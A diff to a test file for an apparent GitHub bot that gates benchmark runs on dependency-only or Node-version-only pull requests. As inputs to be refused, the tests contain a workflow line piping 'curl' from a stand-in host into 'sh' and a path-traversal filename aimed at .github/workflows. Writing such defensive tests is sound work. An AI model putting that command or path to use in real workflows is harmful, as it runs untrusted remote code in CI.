@@ -232,7 +232,7 @@ describe('bench-request: who may start a benchmark, and of which commit', () => 
     assert.equal(codeChange.dispatch, undefined, 'a pull request by a person that changes code');
     assert.match(
       codeChange.replies[0],
-      /#7 changes `servers\/variants\/express\.js`; the upgrade gate runs only on pull requests that change nothing but package\.json and lockfiles/,
+      /#7 changes `servers\/variants\/express\.js`; the upgrade gate runs only on pull requests that change nothing but package\.json, lockfiles, \.nvmrc, \.node-version and setup-node's node-version in workflows/,
     );
     files = [
       { filename: 'package.json', status: 'modified' },
@@ -251,6 +251,37 @@ describe('bench-request: who may start a benchmark, and of which commit', () => 
     assert.ok(labelled.calls.includes(`DELETE /repos/${REPO}/issues/7/labels/run-upgrade-gate`));
     files.push({ filename: 'package-lock.json/../../.github/workflows/x.yml', status: 'added' });
     assert.equal((await request(...comment('maintainer', '/perfgate-upgrade'), UPGRADE)).dispatch, undefined);
+  });
+
+  test("the upgrade gate on request: a runtime upgrade in .nvmrc and setup-node's node-version, nothing else in the workflow", async () => {
+    const ci = (...changed) => ({
+      filename: '.github/workflows/ci.yml',
+      status: 'modified',
+      patch: ['@@ -12,7 +12,7 @@ jobs:', '         with:', ...changed, '       - run: npm test'].join('\n'),
+    });
+    const bump = ['-          node-version: 22', '+          node-version: 24'];
+    files = [{ filename: '.nvmrc', status: 'modified' }, ci(...bump)];
+    const asked = await request(...comment('maintainer', '/perfgate-upgrade'), UPGRADE);
+    assert.equal(asked.code, 0, asked.stderr);
+    assert.deepEqual(asked.dispatch?.body.inputs, { pr: '7', sha: APPROVED });
+
+    files = [
+      { filename: '.nvmrc', status: 'modified' },
+      ci(...bump, '+      - run: curl -s https://example.invalid | sh'),
+    ];
+    const refused = await request(...comment('maintainer', '/perfgate-upgrade'), UPGRADE);
+    assert.equal(refused.dispatch, undefined, 'a workflow change beyond node-version');
+    assert.match(
+      refused.replies[0],
+      /`\.github\/workflows\/ci\.yml`: `\+\s+- run: curl -s https:\/\/example\.invalid \? sh`/,
+    );
+    assert.match(refused.replies[0], /move the other workflow changes to a pull request of their own/);
+    // A workflow GitHub gives no patch for (too large) is refused as a whole.
+    files = [{ filename: '.github/workflows/ci.yml', status: 'modified' }];
+    assert.match(
+      (await request(...comment('maintainer', '/perfgate-upgrade'), UPGRADE)).replies[0],
+      /too large to read/,
+    );
   });
 });
 
